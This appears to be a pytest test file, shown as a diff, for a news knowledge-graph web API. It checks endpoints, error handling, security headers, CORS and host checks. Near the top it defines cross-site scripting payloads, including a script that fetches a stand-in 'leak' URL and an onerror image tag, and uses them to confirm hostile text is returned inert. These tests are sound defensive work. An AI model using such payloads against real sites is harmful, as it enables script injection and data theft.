@@ -1,0 +1,342 @@
+"""Web API: every endpoint on a hand-built store, bad parameters, security headers, hostile text.
+
+The store is built by hand (no model) so the expectations are exact: Baitullah Mehsud leads the
+Pakistan Taliban until 2009-08, Hakimullah Mehsud from 2009-08, and one article carries
+<script>/<iframe> markup in its title, publisher, text and an entity name.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+pytest.importorskip("fastapi")
+from fastapi.testclient import TestClient  # noqa: E402
+
+from newsgraph.errors import NewsgraphError  # noqa: E402
+from newsgraph.kb import KBEntry, KnowledgeBase  # noqa: E402
+from newsgraph.records import (  # noqa: E402
+    Article,
+    ArticleResult,
+    Event,
+    Evidence,
+    LocalEntity,
+    Mention,
+    Quote,
+    Relation,
+    Role,
+    Timex,
+)
+from newsgraph.store import Store  # noqa: E402
+from newsgraph.web.api import MAX_LIMIT, _is_loopback, create_app, serve  # noqa: E402
+
+XSS_NAME = '<img src=x onerror="window.__xss=1">'
+XSS_SCRIPT = "<script>window.__xss=2;fetch('http://198.51.100.7/leak')</script>"
+XSS_IFRAME = '<iframe src="http://198.51.100.7/frame" onload="window.__xss=3"></iframe>'
+
+TEXT1 = ("Baitullah Mehsud, the leader of the Pakistan Taliban, is based in Waziristan. "
+         "Officials said the army would move against him.")
+TEXT2 = ("Hakimullah Mehsud took charge of the Pakistan Taliban in August 2009, after a missile strike "
+         "killed Baitullah Mehsud in Waziristan. Analysts speculated that the Haqqani network helped him.")
+TEXT3 = (f"A reader sent {XSS_SCRIPT} and {XSS_IFRAME} in a comment. "
+         f"The commenter {XSS_NAME} is said to be a member of the Pakistan Taliban.")
+
+
+def _kb() -> KnowledgeBase:
+    kb = KnowledgeBase()
+    kb.add(KBEntry("ttp", "Tehrik-e-Taliban Pakistan", "ARMED_GROUP", ("TTP", "Pakistan Taliban")))
+    kb.add(KBEntry("baitullah", "Baitullah Mehsud", "PERSON", ("Baitullah Mehsud",)))
+    kb.add(KBEntry("hakimullah", "Hakimullah Mehsud", "PERSON", ("Hakimullah Mehsud",)))
+    kb.add(KBEntry("waziristan", "Waziristan", "LOCATION", ("Waziristan",)))
+    return kb
+
+
+def _build(text: str, aid: str, ents: list[tuple[str, str, str, str | None]], *, published: str | None = None,
+           publisher: str | None = None, title: str | None = None,
+           published_range: tuple[str, str] | None = None) -> ArticleResult:
+    """One article by hand; each entity is (name, type, surface form in text, kb_id)."""
+    article = Article(id=aid, source=f"{aid}.txt", raw_text=text, text=text, title=title, publisher=publisher,
+                      published=published, published_range=published_range, offsets=((0, 0, len(text)),))
+    cut = text.index(". ") + 1
+    result = ArticleResult(article=article, sentences=[(0, cut), (cut + 1, len(text))])
+    for idx, (name, etype, form, kb_id) in enumerate(ents):
+        start = text.index(form)
+        sentence = 0 if start < cut else 1
+        result.mentions.append(Mention(start, start + len(form), form, etype, sentence, idx, "ner", kb_id))
+        result.entities.append(LocalEntity(name=name, type=etype, kb_id=kb_id, aliases=[form],
+                                           mentions=[len(result.mentions) - 1]))
+    return result
+
+
+def _sentence(result: ArticleResult, i: int) -> Evidence:
+    s, e = result.sentences[i]
+    return Evidence(s, e, result.article.text[s:e], i)
+
+
+def build_store(path: Path) -> Path:
+    """The deterministic store the API and browser tests share."""
+    kb = _kb()
+    with Store(path) as store:
+        r1 = _build(TEXT1, "cbs1", [("Baitullah Mehsud", "PERSON", "Baitullah Mehsud", "baitullah"),
+                                    ("Tehrik-e-Taliban Pakistan", "ARMED_GROUP", "Pakistan Taliban", "ttp"),
+                                    ("Waziristan", "LOCATION", "Waziristan", "waziristan")],
+                    published="2009-06-25", publisher="CBS News", title="Pakistan Gearing Up To Go After Mehsud")
+        r1.relations.append(Relation("based_in", 0, 2, (_sentence(r1, 0),)))
+        r1.quotes.append(Quote("Officials", "said", "the army would move against him", TEXT1.index("the army"),
+                               len(TEXT1) - 1, None, 1))
+        store.save(r1, kb)
+
+        r2 = _build(TEXT2, "npr2", [("Hakimullah Mehsud", "PERSON", "Hakimullah Mehsud", "hakimullah"),
+                                    ("Tehrik-e-Taliban Pakistan", "ARMED_GROUP", "Pakistan Taliban", "ttp"),
+                                    ("Baitullah Mehsud", "PERSON", "Baitullah Mehsud", "baitullah"),
+                                    ("Waziristan", "LOCATION", "Waziristan", "waziristan"),
+                                    ("Haqqani network", "ARMED_GROUP", "Haqqani network", None)],
+                    publisher="NPR", title="Militant Groups Seen Collaborating Against U.S.",
+                    published_range=("2009-12-30", "2010-02-02"))
+        ev = _sentence(r2, 0)
+        r2.relations.append(Relation("leads", 0, 1, (ev,), valid_from="2009-08"))
+        r2.relations.append(Relation("leads", 2, 1, (ev,), valid_to="2009-08"))
+        r2.relations.append(Relation("allied_with", 4, 0, (_sentence(r2, 1),), modality="speculated",
+                                     attributed_to="Analysts"))
+        when = TEXT2.index("August 2009")
+        r2.timexes.append(Timex(when, when + 11, "August 2009", "2009-08", "month", "2009-12-30", 0))
+        trig = TEXT2.index("strike")
+        r2.events.append(Event("ASSAULT", "missile_strike", Evidence(trig, trig + 6, "strike", 0),
+                               roles=(Role("victim", "Baitullah Mehsud", TEXT2.index("Baitullah"),
+                                           TEXT2.index("Baitullah") + 16, 2),),
+                               date=r2.timexes[0], location=3, killed=1, evidence=(ev,)))
+        store.save(r2, kb)
+
+        r3 = _build(TEXT3, "xss3", [(XSS_NAME, "PERSON", XSS_NAME, None),
+                                    ("Tehrik-e-Taliban Pakistan", "ARMED_GROUP", "Pakistan Taliban", "ttp")],
+                    published="2009-11-01", publisher="<b>Evil</b> Daily", title=f"{XSS_SCRIPT} headline")
+        r3.relations.append(Relation("member_of", 0, 1, (_sentence(r3, 1),), modality="reported"))
+        store.save(r3, kb)
+    return path
+
+
+@pytest.fixture(scope="module")
+def store_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return build_store(tmp_path_factory.mktemp("web") / "web.db")
+
+
+@pytest.fixture(scope="module")
+def client(store_path: Path) -> TestClient:
+    return TestClient(create_app(str(store_path)))
+
+
+def _id(client: TestClient, name: str) -> int:
+    items = client.get("/api/entities", params={"q": name}).json()["items"]
+    return next(e["id"] for e in items if e["name"] == name)
+
+
+def _edges(net: dict) -> set[tuple[str, str, str]]:
+    return {(e["subject_name"], e["type"], e["object_name"]) for e in net["edges"]}
+
+
+LEADS_HAKIM = ("Hakimullah Mehsud", "leads", "Tehrik-e-Taliban Pakistan")
+LEADS_BAIT = ("Baitullah Mehsud", "leads", "Tehrik-e-Taliban Pakistan")
+
+
+@pytest.mark.parametrize(("as_of", "present", "absent"), [
+    ("2009-06-30", {LEADS_BAIT}, {LEADS_HAKIM}),
+    ("2009-08-31", {LEADS_BAIT, LEADS_HAKIM}, set()),
+    ("2010-01-31", {LEADS_HAKIM}, {LEADS_BAIT}),
+    ("2010-01", {LEADS_HAKIM}, {LEADS_BAIT}),
+])
+def test_network_as_of(client, as_of, present, absent):
+    r = client.get("/api/network", params={"as_of": as_of})
+    assert r.status_code == 200
+    edges = _edges(r.json())
+    assert present <= edges
+    assert not absent & edges
+
+
+def test_network_known_as_of_and_types(client):
+    # By 2009-07 only the CBS article had been published: no leads claim was known yet.
+    known = _edges(client.get("/api/network", params={"known_as_of": "2009-07"}).json())
+    assert known == {("Baitullah Mehsud", "based_in", "Waziristan")}
+    only = client.get("/api/network", params={"types": "leads, allied_with"}).json()
+    assert {e["type"] for e in only["edges"]} == {"leads", "allied_with"}
+    node_names = {n["name"] for n in only["nodes"]}
+    assert {"Hakimullah Mehsud", "Haqqani network"} <= node_names and "Waziristan" not in node_names
+
+
+def test_network_edge_carries_evidence_and_modality(client):
+    net = client.get("/api/network").json()
+    ally = next(e for e in net["edges"] if e["type"] == "allied_with")
+    assert ally["modality"] == "speculated" and ally["attributed_to"] == "Analysts"
+    assert ally["evidence"][0]["article_id"] == "npr2"
+    assert ally["evidence"][0]["text"].startswith("Analysts speculated")
+    assert all("mentions" in n for n in net["nodes"])
+
+
+@pytest.mark.parametrize(("url", "status", "needle"), [
+    ("/api/network?as_of=2009-13", 400, "malformed date"),
+    ("/api/network?as_of=June%202009", 400, "malformed date"),
+    ("/api/network?known_as_of=2009-02-30", 400, "no such day"),
+    ("/api/path?a=Baitullah%20Mehsud&b=Waziristan&as_of=yesterday", 400, "malformed date"),
+    ("/api/entities?limit=100000", 422, "limit"),
+    (f"/api/entities?limit={MAX_LIMIT + 1}", 422, "limit"),
+    ("/api/entities?limit=0", 422, "limit"),
+    ("/api/entities?offset=-1", 422, "offset"),
+    ("/api/entities?limit=ten", 422, "limit"),
+    ("/api/events?limit=9999", 422, "limit"),
+    ("/api/articles?limit=9999", 422, "limit"),
+    ("/api/entities?type=DRAGON", 400, "unknown entity type"),
+    ("/api/entities/999999", 404, "no entity"),
+    ("/api/entities/Nobody%20At%20All", 404, "no entity"),
+    ("/api/entities/999999/timeline", 404, "no entity"),
+    ("/api/events?entity=Nobody", 404, "no entity"),
+    ("/api/path?a=Nobody&b=Baitullah%20Mehsud", 404, "no entity"),
+    ("/api/path?a=Baitullah%20Mehsud", 422, "b"),
+    ("/api/articles/does-not-exist", 404, "no article"),
+    ("/api/no-such-endpoint", 404, "no endpoint"),
+])
+def test_bad_requests_are_clear_json(client, url, status, needle):
+    r = client.get(url)
+    assert r.status_code == status
+    assert r.headers["content-type"].startswith("application/json")
+    assert needle in r.json()["error"]
+
+
+def test_stats_and_entities(client):
+    stats = client.get("/api/stats").json()
+    assert stats["articles"] == 3 and stats["relations"] == 5
+    assert stats["top_entities"][0]["name"] == "Tehrik-e-Taliban Pakistan"
+    people = client.get("/api/entities", params={"type": "person", "limit": 2}).json()
+    assert len(people["items"]) == 2 and all(e["type"] == "PERSON" for e in people["items"])
+    page2 = client.get("/api/entities", params={"type": "PERSON", "limit": 2, "offset": 2}).json()["items"]
+    assert not {e["id"] for e in page2} & {e["id"] for e in people["items"]}
+    found = client.get("/api/entities", params={"q": "Taliban"}).json()["items"]
+    assert [e["name"] for e in found] == ["Tehrik-e-Taliban Pakistan"]
+
+
+def test_profile_timeline_events_path(client):
+    bid = _id(client, "Baitullah Mehsud")
+    profile = client.get(f"/api/entities/{bid}").json()
+    assert profile["name"] == "Baitullah Mehsud" and profile["type"] == "PERSON"
+    assert {r["type"] for r in profile["relations"]} == {"based_in", "leads"}
+    assert client.get("/api/entities/Baitullah%20Mehsud").json()["id"] == bid  # names work too
+    items = client.get(f"/api/entities/{bid}/timeline").json()["items"]
+    assert items[0]["kind"] == "event" and items[0]["summary"].startswith("missile strike")
+    assert any(i["kind"] == "relation_end" and "leads" in i["summary"] and i["date"] == "2009-08" for i in items)
+    assert [i["date"] for i in items] == sorted(i["date"] for i in items)
+    events = client.get("/api/events", params={"entity": "Waziristan"}).json()["items"]
+    assert [(e["subtype"], e["killed"], e["location_name"]) for e in events] == [("missile_strike", 1, "Waziristan")]
+    paths = client.get("/api/path", params={"a": "Hakimullah Mehsud", "b": "Baitullah Mehsud"}).json()
+    assert [[h["type"] for h in p] for p in paths["paths"]] == [["leads", "leads"]]
+    # On 2010-01 Baitullah no longer leads: no path through the group.
+    later = client.get("/api/path", params={"a": "Hakimullah Mehsud", "b": "Baitullah Mehsud", "as_of": "2010-01"})
+    assert later.json()["paths"] == []
+
+
+def test_article_view_has_spans(client):
+    art = client.get("/api/articles/npr2").json()
+    text = art["text"]
+    assert art["published_range"] == ["2009-12-30", "2010-02-02"] and art["publisher"] == "NPR"
+    assert {text[m["start"]:m["end"]] for m in art["mentions"]} >= {"Hakimullah Mehsud", "Haqqani network"}
+    assert all(m["entity_name"] for m in art["mentions"])
+    kinds = {(f["kind"], text[f["start"]:f["end"]][:10]) for f in art["facts"]}
+    assert ("relation", "Hakimullah") in kinds and ("event", "Hakimullah") in kinds
+    assert art["sentences"][0][0] == 0
+    listing = client.get("/api/articles").json()["items"]
+    assert [a["id"] for a in listing] == ["npr2", "xss3", "cbs1"]
+
+
+def test_months_span_the_data(client):
+    months = client.get("/api/months").json()
+    assert months["first"] == "2009-06" and months["last"] == "2010-02"
+    assert months["months"][:3] == ["2009-06", "2009-07", "2009-08"] and len(months["months"]) == 9
+
+
+def test_places_and_conflicts(client):
+    places = client.get("/api/places").json()
+    waz = next(p for p in places["places"] if p["name"] == "Waziristan")
+    assert waz["kind"] == "region" and waz["country"] == "PK" and 32 < waz["lat"] < 34 and 69 < waz["lon"] < 71
+    assert waz["isonumeric"] is None  # only a country shades its shape on the basemap
+    assert [e["subtype"] for e in waz["events"]] == ["missile_strike"]
+    assert client.get("/api/conflicts").json() == {"items": []}
+
+
+def test_security_headers(client):
+    for url in ("/", "/api/stats", "/api/entities/999999", "/static/app.js"):
+        r = client.get(url)
+        csp = r.headers["content-security-policy"]
+        assert "default-src 'self'" in csp and "script-src 'self';" in csp and "unsafe-inline" not in csp
+        assert r.headers["x-content-type-options"] == "nosniff"
+        assert r.headers["referrer-policy"] == "no-referrer"
+    assert "access-control-allow-origin" not in client.get("/api/stats", headers={"Origin": "http://evil.test"}).headers
+
+
+def test_cors_only_when_asked(store_path):
+    open_client = TestClient(create_app(str(store_path), allow_origins=["http://notebook.test"]))
+    r = open_client.get("/api/stats", headers={"Origin": "http://notebook.test"})
+    assert r.headers["access-control-allow-origin"] == "http://notebook.test"
+    assert "access-control-allow-origin" not in open_client.get("/api/stats", headers={"Origin": "http://x.test"}).headers
+
+
+def test_host_header_checked_when_serving_locally(store_path):
+    local = TestClient(create_app(str(store_path), allowed_hosts=["127.0.0.1", "localhost"]),
+                       base_url="http://127.0.0.1")
+    assert local.get("/api/stats").status_code == 200
+    assert local.get("/api/stats", headers={"Host": "attacker.test"}).status_code == 400
+
+
+def test_hostile_text_comes_back_as_plain_json_strings(client):
+    art = client.get("/api/articles/xss3")
+    assert art.headers["content-type"].startswith("application/json")
+    body = art.json()
+    assert XSS_SCRIPT in body["text"] and XSS_IFRAME in body["text"]
+    assert body["title"] == f"{XSS_SCRIPT} headline" and body["publisher"] == "<b>Evil</b> Daily"
+    names = [e["name"] for e in client.get("/api/entities", params={"type": "PERSON"}).json()["items"]]
+    assert XSS_NAME in names
+    net = client.get("/api/network").json()
+    assert any(e["subject_name"] == XSS_NAME for e in net["edges"])
+
+
+def test_page_and_docs(client):
+    page = client.get("/")
+    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
+    assert '<script type="module" src="/static/app.js">' in page.text
+    assert "<script>" not in page.text  # no inline script anywhere in the page
+    schema = client.get("/openapi.json").json()
+    for path in ("/api/stats", "/api/entities", "/api/entities/{entity}", "/api/entities/{entity}/timeline",
+                 "/api/network", "/api/path", "/api/events", "/api/conflicts", "/api/articles/{article_id}",
+                 "/api/months", "/api/places"):
+        assert path in schema["paths"], path
+    assert client.get("/docs").status_code == 200
+
+
+def test_static_has_no_innerhtml():
+    static = Path(__file__).resolve().parents[1] / "src" / "newsgraph" / "web" / "static"
+    for js in static.glob("*.js"):
+        source = js.read_text(encoding="utf-8")
+        assert "innerHTML" not in source.replace("no innerHTML", "") and "insertAdjacentHTML" not in source, js.name
+
+
+def test_store_is_read_only(store_path):
+    app_client = TestClient(create_app(str(store_path)))
+    assert app_client.post("/api/stats").status_code == 405
+    # The app opens the store the same way, and such a connection refuses writes.
+    with Store(store_path, readonly=True) as store, pytest.raises(Exception, match="readonly"):
+        store.conn.execute("DELETE FROM articles")
+
+
+@pytest.mark.parametrize(("host", "loopback"), [
+    ("127.0.0.1", True), ("localhost", True), ("::1", True), ("[::1]", True), ("127.0.0.2", True),
+    ("0.0.0.0", False), ("192.168.1.10", False), ("example.org", False), ("::", False),
+])
+def test_loopback_detection(host, loopback):
+    assert _is_loopback(host) is loopback
+
+
+def test_serve_refuses_public_bind(store_path):
+    with pytest.raises(NewsgraphError, match="refusing to listen on 0.0.0.0"):
+        serve(str(store_path), host="0.0.0.0")
+
+
+def test_missing_store_fails_at_start(tmp_path):
+    with pytest.raises(NewsgraphError, match="no such store"):
+        create_app(str(tmp_path / "absent.db"))
